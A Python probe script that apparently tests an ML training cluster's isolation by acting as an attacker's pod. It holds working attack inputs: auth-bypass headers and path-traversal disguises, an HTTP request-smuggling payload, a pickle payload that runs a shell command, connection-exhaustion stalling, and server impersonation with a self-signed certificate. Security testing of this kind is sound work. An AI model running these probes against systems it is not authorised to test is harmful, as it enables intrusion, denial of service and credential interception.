"""What an attacker's pod tries; sent into it as it is, so the standard library alone, and cryptography for `pose`.

`python3 - COMMAND WORD...`: `knock HOST PORT...` connects; `ask HOST PORT` asks a server's routes without the token;
`progress HOST PORT` the learner's; `join HOST PORT...` its transfer groups; `stall HOST SECONDS PORT...` holds many
connections; `pose SECONDS LEARNER PORT...` answers as a server would; `connect_out HOST:PORT...` connects out.
Each prints a JSON object a line: what, outcome, detail.
"""

import contextlib
import datetime
import json
import socket
import ssl
import sys
import tempfile
import threading
import time

TIMEOUT_S = 10.0
CONNECT_TIMEOUT_S = 3.0  # by the clock: a kernel answers however busy its machine is, and a policy drops without a word
GETS = (
    "/v1/models", "/get_world_size", "/server_info", "/stage2/identity", "/stage2/folder", "/load", "/version",
    "/metrics", "/docs", "/openapi.json",
)  # fmt: skip
POSTS = (
    "/v1/chat/completions", "/v1/completions", "/v1/embeddings", "/v1/responses", "/v1/load_lora_adapter",
    "/v1/unload_lora_adapter", "/init_weight_transfer_engine", "/start_weight_update",
    "/update_weights", "/finish_weight_update", "/update_weight_version", "/collective_rpc", "/pause", "/resume",
    "/sleep", "/wake_up", "/reset_prefix_cache", "/reset_mm_cache", "/reset_encoder_cache", "/abort_requests",
    "/tokenize", "/detokenize", "/inference/v1/generate", "/invocations", "/scale_elastic_ep",
)  # fmt: skip
ROUTES = [
    *(("GET", route) for route in GETS),
    *(("POST", route) for route in POSTS),
    ("OPTIONS", "/update_weights"),
    ("TRACE", "/v1/models"),
]
DISGUISES = [
    "//v1/models",
    "/health/../v1/models",
    "/health/%2e%2e/v1/models",
    "/health%2f..%2fv1/models",
    "/health;/v1/models",
    "/health%00/v1/models",
    "http://localhost/v1/models",
]
HEADERS = [
    "Authorization: Bearer x",
    "Authorization: Bearer ",
    "Authorization: Basic eDp4",
    "Authorization: Bearer x\r\nAuthorization: Bearer y",
    "X-Forwarded-For: 127.0.0.1\r\nX-Real-IP: 127.0.0.1",
    "Cookie: token=x",
    f"Authorization: Bearer {'x' * 60_000}",
]
SMUGGLED = (
    b"POST /health HTTP/1.1\r\nHost: h\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n"
    b"0\r\n\r\nGET /v1/models HTTP/1.1\r\nHost: h\r\nConnection: close\r\n\r\n"
)
MODELS_SAY = b'"object"'  # of every list of models
PICKLE = b"cposix\nsystem\n(S'id'\ntR."
LEAK_BYTES = 1024  # more than a handshake says before the other side has proved anything


def report(what: str, got: bool, detail: str = "", *, known: bool = False) -> None:
    outcome = "GOT" if got and not known else "open" if got else "held"
    print(json.dumps({"what": what, "outcome": outcome, "detail": detail}), flush=True)


def connection(host: str, port: int, *, tls: bool = True) -> socket.socket:
    plain = socket.create_connection((host, port), timeout=TIMEOUT_S)
    if not tls:
        return plain
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE  # an attacker believes everybody
    return context.wrap_socket(plain)


def exchange(host: str, port: int, sent: bytes, *, tls: bool = True) -> bytes:
    """Send bytes; return what comes back until the other side ends or is silent."""
    heard = b""
    try:
        with connection(host, port, tls=tls) as to:
            to.sendall(sent)
            while part := to.recv(65536):
                heard += part
    except OSError as error:
        return heard or type(error).__name__.encode()
    return heard


def request(method: str, path: str, header: str = "") -> bytes:
    lines = [f"{method} {path} HTTP/1.1", "Host: h", "Connection: close", "Content-Type: application/json"]
    return "\r\n".join([*lines, *([header] if header else []), "Content-Length: 2", "", "{}"]).encode()


def status(answer: bytes) -> str:
    return answer.split(b"\r\n", 1)[0].decode(errors="replace")[:60]


def knock(host: str, *ports: str) -> None:
    for port in ports:
        try:
            socket.create_connection((host, int(port)), timeout=CONNECT_TIMEOUT_S).close()
            report(f"connect to port {port} of {host}", True)
        except OSError as error:
            report(f"connect to port {port} of {host}", False, type(error).__name__)


def ask(host: str, port: str) -> None:
    where = f"of the server at port {port}"
    answer = exchange(host, int(port), request("GET", "/health"))
    report(f"GET /health {where}", b"HTTP/1.1 200" in answer, status(answer), known=True)
    for method, path in ROUTES:
        detail = status(exchange(host, int(port), request(method, path)))
        report(f"{method} {path} {where}, no token", " 2" in detail[:13], detail)
    for path in DISGUISES:
        answer = exchange(host, int(port), request("GET", path))
        report(f"GET {path} {where}, no token", MODELS_SAY in answer, status(answer))
    for header in HEADERS:
        answer = exchange(host, int(port), request("GET", "/v1/models", header))
        report(f"GET /v1/models {where} with {header[:40]!r}", MODELS_SAY in answer, status(answer))
    answer = exchange(host, int(port), SMUGGLED)
    report(f"a second request hidden in the first {where}", MODELS_SAY in answer, status(answer))
    answer = exchange(host, int(port), request("GET", "/health"), tls=False)
    report(f"an answer in clear text {where}", b"HTTP/1.1 200" in answer, status(answer))


def progress(host: str, port: str) -> None:
    for header in ("", *HEADERS):
        detail = status(exchange(host, int(port), request("GET", "/progress", header)))
        report(f"GET /progress of the learner with {header[:40]!r}", " 2" in detail[:13], detail)


def join(host: str, *ports: str) -> None:
    """Join the transfer groups: say nothing, nonsense, and what would run a command if it were unpickled."""
    for port in ports:
        for name, sent in (("nothing", b""), ("nonsense", b"\xff" * 4096), ("a pickle", PICKLE)):
            answer = exchange(host, int(port), sent, tls=False)
            report(
                f"weights at port {port} of the learner, saying {name}",
                len(answer) > LEAK_BYTES,
                f"{len(answer)} bytes",
            )


def stall(host: str, seconds: str, *ports: str) -> None:
    """Hold connections, and say how many when all are there and when the time is over."""
    held = []
    for port in ports:
        for _ in range(64):
            with contextlib.suppress(OSError):
                held.append(socket.create_connection((host, int(port)), timeout=CONNECT_TIMEOUT_S))
    print(json.dumps({"held": len(held)}), flush=True)
    time.sleep(float(seconds))  # by the clock: so long it holds them


def pose(seconds: str, learner: str, *ports: str) -> None:
    """Listen as a server would, with a certificate of our own; report who came, who believed it, and what they sent."""
    context = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
    context.load_cert_chain(certificate())
    heard: list[tuple[str, str, bytes]] = []
    for port in ports:
        listening = socket.create_server(("", int(port)))
        threading.Thread(target=answer_at, args=(listening, context, heard), daemon=True).start()
    print(json.dumps({"listening": True}), flush=True)
    time.sleep(float(seconds))  # by the clock: so long it listens
    believed = [detail for _, outcome, detail in heard if outcome == "believed"]
    came = sum(host == learner for host, _, _ in heard)
    report("to be taken for a server", bool(believed), believed[0][:200].decode(errors="replace") if believed else "")
    report("the connections of the learner, by its servers' labels", bool(came), f"{came} of {len(heard)} were its own")
    print(json.dumps({"connections": len(heard)}), flush=True)


def connect_out(*addresses: str) -> None:
    """Connect out of the job: to addresses of the cluster and of the internet, written as HOST:PORT."""
    for address in addresses:
        host, _, port = address.rpartition(":")
        try:
            socket.create_connection((host, int(port)), timeout=CONNECT_TIMEOUT_S).close()
            report(f"to connect out, to {address}", True)
        except OSError as error:
            report(f"to connect out, to {address}", False, type(error).__name__)


def answer_at(listening: socket.socket, context: ssl.SSLContext, heard: list[tuple[str, str, bytes]]) -> None:
    with listening:
        while True:
            plain, (host, _) = listening.accept()
            plain.settimeout(TIMEOUT_S)
            try:
                with context.wrap_socket(plain, server_side=True) as secure:
                    heard.append((host, "believed", secure.recv(4096)))
            except OSError as error:
                heard.append((host, "turned away", type(error).__name__.encode()))


def certificate() -> str:
    """Write a certificate of our own for every name; return the file."""
    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import ec

    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(x509.NameOID.COMMON_NAME, "stage2")])
    now = datetime.datetime.now(datetime.UTC)
    made = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - datetime.timedelta(days=1))
        .not_valid_after(now + datetime.timedelta(days=1))
        .sign(key, hashes.SHA256())
    )
    with tempfile.NamedTemporaryFile("wb", suffix=".pem", delete=False) as file:
        file.write(made.public_bytes(serialization.Encoding.PEM))
        private = serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
        file.write(key.private_bytes(serialization.Encoding.PEM, *private))
    return file.name


COMMANDS = {one.__name__: one for one in (knock, ask, progress, join, stall, pose, connect_out)}

if __name__ == "__main__":
    COMMANDS[sys.argv[1]](*sys.argv[2:])
